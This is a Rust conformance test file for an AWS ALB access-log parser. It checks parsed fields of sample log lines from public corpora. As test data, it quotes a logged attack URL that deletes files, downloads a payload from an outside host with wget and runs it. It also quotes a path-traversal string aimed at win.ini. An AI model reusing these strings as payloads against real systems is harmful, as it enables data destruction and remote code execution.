//! Conformance against the shared public corpus (`shared/samples/`), read from
//! disk: `$HOSP_LOGS_SHARED_DIR` or else `<crate>/../shared`. Fails (does not
//! skip) when the files are missing. Expected values are from
//! `shared/samples/alb-public-expected.md` (vrl, simnalamburt, crowdsec, beats,
//! elastic/integrations, OTel, azul); where those keep `-`/-1 or `""`, this
//! parser's documented mapping (None) is asserted instead.

use std::path::PathBuf;

use super::tests_fields::field_mismatch;
use super::tests_fields::Want::{self, Float, Int, Null, Str};
use super::*;

fn shared_dir() -> (PathBuf, &'static str) {
    match std::env::var("HOSP_LOGS_SHARED_DIR") {
        Ok(dir) if !dir.is_empty() => (PathBuf::from(dir), "$HOSP_LOGS_SHARED_DIR"),
        _ => (
            PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../shared")),
            "the default <CARGO_MANIFEST_DIR>/../shared (set HOSP_LOGS_SHARED_DIR to override)",
        ),
    }
}

fn read_sample(name: &str) -> String {
    let (dir, source) = shared_dir();
    let path = dir.join("samples").join(name);
    std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "shared corpus file missing: could not read {} ({e}); looked in {} from {source}",
            path.display(),
            dir.display()
        )
    })
}

fn sample_lines() -> Vec<String> {
    read_sample("alb-public.log")
        .lines()
        .map(str::to_owned)
        .collect()
}

#[test]
fn all_public_lines_parse() {
    let lines = sample_lines();
    assert_eq!(lines.len(), 51, "alb-public.log should have 51 lines");
    for (i, line) in lines.iter().enumerate() {
        let r = parse_line(line).unwrap_or_else(|e| panic!("line {}: {e}", i + 1));
        assert!(r.field_count >= MIN_FIELDS);
        assert!(r.elb_status_code.is_some(), "line {}", i + 1);
    }
}

#[test]
fn malformed_public_lines_are_rejected() {
    let text = read_sample("alb-public-malformed.log");
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 2);
    let fields: Vec<_> = lines
        .iter()
        .map(|l| parse_line(l).map(|_| ()).unwrap_err().field)
        .collect();
    assert_eq!(
        fields,
        [Some("chosen_cert_arn"), Some("matched_rule_priority")]
    );
}

/// (line of alb-public.log, field, parsed value).
const SPOT_CHECKS: &[(usize, &str, Want)] = &[
    // Line 8 (vrl `eight`).
    (8, "kind", Str("https")),
    (8, "elb", Str("app/awseb-AWSEB-1MVD8OW91UMOH/a32a5528b8fdaa6b")),
    (8, "client_ip", Str("10.209.14.140")),
    (8, "client_port", Int(50599)),
    (8, "target_ip", Str("10.119.5.47")),
    (8, "target_port", Int(80)),
    (8, "request_processing_time", Float(0.001)),
    (8, "target_processing_time", Float(0.052)),
    (8, "response_processing_time", Float(0.0)),
    (8, "elb_status_code", Int(200)),
    (8, "target_status_code", Int(200)),
    (8, "received_bytes", Int(589)),
    (8, "sent_bytes", Int(2084)),
    (8, "method", Str("POST")),
    (8, "url", Str("https://test.domain.com:443/api/deposits/transactions:search?detailsLevel=FULL&offset=0&limit=50")),
    (8, "protocol", Str("HTTP/1.1")),
    (8, "user_agent", Str("User 1.0")),
    (8, "trace_id", Str("Root=1-605112f0-31f367be4fd3da651daa4157")),
    (8, "domain_name", Str("some.domain.com")),
    (8, "matched_rule_priority", Int(0)),
    (8, "actions_executed", Str("waf,forward")),
    (8, "target_port_list", Str("10.229.5.47:80")),
    (8, "target_status_code_list", Str("200")),
    (8, "conn_trace_id", Str("TID_dc57cebed65b444ebc8177bb698fe166")),
    // Line 9 (vrl `nine`): -1 times are None, malformed request split.
    (9, "request_processing_time", Null),
    (9, "target_processing_time", Null),
    (9, "response_processing_time", Null),
    (9, "elb_status_code", Int(400)),
    (9, "target_status_code", Null),
    (9, "method", Null),
    (9, "url", Str("http://awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com:80-")),
    (9, "protocol", Null),
    (9, "user_agent", Null),
    (9, "trace_id", Null),
    (9, "matched_rule_priority", Null),
    // Line 10 (vrl `ten`).
    (10, "method", Str("POST")),
    (10, "protocol", Str("HTTP/1.1")),
    (10, "user_agent", Str("Mozilla/5.0 (X11; Linux x86_64; rv:60.0) Gecko/20100101 Firefox/60.0")),
    (10, "received_bytes", Int(191)),
    (10, "sent_bytes", Int(272)),
    // Line 11 (vrl `eleven`): unbracketed IPv6, split on the last ':'.
    (11, "client_ip", Str("2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc")),
    (11, "client_port", Int(50599)),
    (11, "target_ip", Str("fd6d:6bbc:c529:6::face:ed83:f46")),
    (11, "target_port", Int(80)),
    (11, "target_port_list", Str("fd6d:6bbc:c529:27ff:b::dead:ed84:80")),
    // Line 12 (vrl `thirteen`): unquoted target lists.
    (12, "target_port_list", Str("10.0.0.1:80")),
    (12, "target_status_code_list", Str("200")),
    (12, "conn_trace_id", Str("TID_dc57cebed65b444ebc8177bb698fe166")),
    // Line 13 (vrl non-strict example).
    (13, "conn_trace_id", Str("TID_12345")),
    (13, "target_ip", Null),
    (13, "target_port_list", Null),
    // Line 14 (simnalamburt): URL without port.
    (14, "url", Str("https://example.com")),
    (14, "protocol", Str("HTTP/2.0")),
    (14, "matched_rule_priority", Int(5)),
    (14, "client_ip", Str("123.123.123.123")),
    (14, "client_port", Int(65432)),
    // Lines 15, 16 (simnalamburt): malformed requests with and without version.
    (15, "method", Null),
    (15, "url", Str("http://example.com:8080-")),
    (15, "protocol", Null),
    (16, "method", Null),
    (16, "url", Str("http://example.com:8080-")),
    (16, "protocol", Null),
    // Line 17: session-reused.
    (17, "chosen_cert_arn", Str("session-reused")),
    // Line 18: WAF block 503.
    (18, "elb_status_code", Int(503)),
    (18, "target_status_code", Null),
    (18, "target_group_arn", Null),
    (18, "domain_name", Str("*")),
    (18, "actions_executed", Str("waf,fixed-response")),
    // Line 19: odd method, rule priority `-`.
    (19, "method", Str("SSTP_DUPLEX_POST")),
    (19, "url", Str("https://10.100.10.100:443/sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/")),
    (19, "matched_rule_priority", Null),
    (19, "trace_id", Null),
    // Line 20: trailing space after the version; classification.
    (20, "protocol", Str("HTTP/1.0")),
    (20, "url", Str("http://myalb-012345678.ap-northeast-2.elb.amazonaws.com:80/")),
    (20, "classification", Str("Acceptable")),
    (20, "classification_reason", Str("NonCompliantVersion")),
    // Line 21: SNI is ip:port.
    (21, "domain_name", Str("12.123.123.12:443")),
    // Lines 22, 23: user agents stay raw (escapes kept).
    (22, "user_agent", Str(r"\x22Mozilla/5.0 (iPhone; CPU iPhone OS 11_4 like Mac OS X) available_resolution = 667,375 Apple Inc.~Apple A11 GPU\x22")),
    (23, "user_agent", Str(r"\xEC\x97\x90\xEC\x9D\xB4\xEC\xA0\x84\xED\x8A\xB8")),
    // Line 25: leading space in domain_name dropped; "" actions -> None (documented).
    (25, "domain_name", Str("some-subdomain.domain.com")),
    (25, "actions_executed", Null),
    // Line 26: method `--location`.
    (26, "method", Str("--location")),
    // Line 27: redirect with raw \x5C, TLSv1.3.
    (27, "redirect_url", Str(r"https://redirect.example.com?key1=value1&key2=..\x5C..\x5C..\x5Cwindows\x5Cwin.ini")),
    (27, "ssl_cipher", Str("TLS_AES_128_GCM_SHA256")),
    (27, "ssl_protocol", Str("TLSv1.3")),
    // Line 28: TID.
    (28, "conn_trace_id", Str("TID_dc57cebed65b444ebc8177bb698fe166")),
    // Line 32 (crowdsec record 7): transform fields.
    (32, "client_ip", Str("192.168.131.39")),
    (32, "client_port", Int(2817)),
    (32, "target_ip", Str("10.0.0.1")),
    (32, "target_port", Int(80)),
    (32, "conn_trace_id", Str("TID_1234abcd5678ef90")),
    (32, "transformed_host", Str("m.example.com")),
    (32, "transformed_uri", Null),
    (32, "request_transform_status", Str("TransformSuccess")),
    (32, "matched_rule_priority", Int(1)),
    // Line 35 (beats): 460.
    (35, "elb_status_code", Int(460)),
    (35, "target_status_code", Null),
    (35, "target_ip", Str("10.0.0.192")),
    (35, "target_port", Int(80)),
    (35, "client_ip", Str("77.227.156.41")),
    (35, "client_port", Int(56398)),
    (35, "received_bytes", Int(125)),
    (35, "sent_bytes", Int(0)),
    (35, "trace_id", Str("Root=1-5da09932-2c342a443bfb96249aa50ed7")),
    (35, "field_count", Int(25)),
    // Line 36 (beats): 504.
    (36, "elb_status_code", Int(504)),
    (36, "target_ip", Str("10.0.1.107")),
    (36, "client_port", Int(56488)),
    (36, "sent_bytes", Int(308)),
    // Line 38 (elastic/integrations): SpaceInUri.
    (38, "method", Str("GET")),
    (38, "url", Str("http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws")),
    (38, "protocol", Str("HTTP/1.1")),
    (38, "redirect_url", Str("https://127.0.0.1:443/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws")),
    (38, "classification_reason", Str("SpaceInUri")),
    (38, "user_agent", Str("Hello, world")),
    // Line 40 (goaccess#2557): real IPv6 client.
    (40, "client_ip", Str("2a02:a33c:4538:1:bcf4:5264:e01c:f215")),
    (40, "client_port", Int(50718)),
    (40, "elb_status_code", Int(401)),
    (40, "target_status_code", Int(401)),
    // Line 41: rule priority 10160.
    (41, "matched_rule_priority", Int(10160)),
    // Line 47 (OTel): bracketed IPv6; time in µs (timeUnixNano 1530570180186641000).
    (47, "client_ip", Str("fe80::202:b3ff:fe1e:8329")),
    (47, "client_port", Int(443)),
    (47, "target_ip", Str("2001:db8::1")),
    (47, "target_port", Int(80)),
    (47, "time_us", Int(1_530_570_180_186_641)),
    (47, "actions_executed", Str("authenticate,forward")),
];

#[test]
fn spot_checks_against_public_expectations() {
    let lines = sample_lines();
    let rec = |n: usize| parse_line(&lines[n - 1]).unwrap();
    let problems: Vec<String> = SPOT_CHECKS
        .iter()
        .filter_map(|&(n, field, want)| {
            field_mismatch(&rec(n), field, want).map(|p| format!("line {n}: {p}"))
        })
        .collect();
    assert!(problems.is_empty(), "{}", problems.join("\n"));

    // Checks that are not one field's value. Lines 9 and 35: a -1 time makes the latency unknown.
    for n in [9, 35] {
        assert_eq!(rec(n).latency_ms(), None, "line {n}");
    }

    // Line 24: the odd `\x00000022` escape is kept raw.
    assert!(rec(24)
        .user_agent
        .unwrap()
        .starts_with(r"\x00000022Mozilla/5.0"));

    // Line 36 (beats): request created 10 s before the response.
    let r = rec(36);
    let created = r.request_creation_time_us.unwrap();
    assert_eq!(r.time_us - created, 10_001_440);

    // Line 38: the URL with a space splits at its query.
    let u = split_url(rec(38).url().unwrap());
    assert_eq!(
        (u.scheme, u.host, u.port, u.path),
        (Some("http"), Some("127.0.0.1"), Some(80), Some("/shell"))
    );
    assert_eq!(
        u.query,
        Some("cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws")
    );

    // Lines 48-51 (azul): request and user agent raw; decoding is a separate view.
    for (n, escaped, decoded) in [
        (48, r"\x22", "\""),
        (49, r"\x5c", "\\"),
        (50, r"\xC3\x88", "È"),
        (51, r"\xf0\x9f\x98\x80", "😀"),
    ] {
        let r = rec(n);
        assert_eq!(
            r.request,
            format!("POST https://gitlab.dev.singlecell.gi.ucsc.edu:443/api/v4/jobs/request?chars={escaped} HTTP/1.1")
        );
        let ua = r.user_agent.unwrap();
        assert_eq!(
            ua,
            format!("gitlab-runner 15.6.1 (15-6-stable; go1.18.8; linux/amd64; {escaped})")
        );
        assert_eq!(
            decode_escapes(ua),
            format!("gitlab-runner 15.6.1 (15-6-stable; go1.18.8; linux/amd64; {decoded})")
        );
        assert_eq!(r.target_port_list, Some("172.71.0.215:80"));
        assert_eq!(r.elb_status_code, Some(204));
    }
}

#[test]
fn field_counts_of_the_corpus() {
    let lines = sample_lines();
    let counts: Vec<usize> = lines
        .iter()
        .map(|l| parse_line(l).unwrap().field_count)
        .collect();
    for (n, want) in [
        (1, 29),
        (8, 30),
        (12, 33),
        (32, 33),
        (35, 25),
        (37, 25),
        (43, 27),
        (45, 20),
        (46, 21),
    ] {
        assert_eq!(counts[n - 1], want, "line {n}");
    }
}
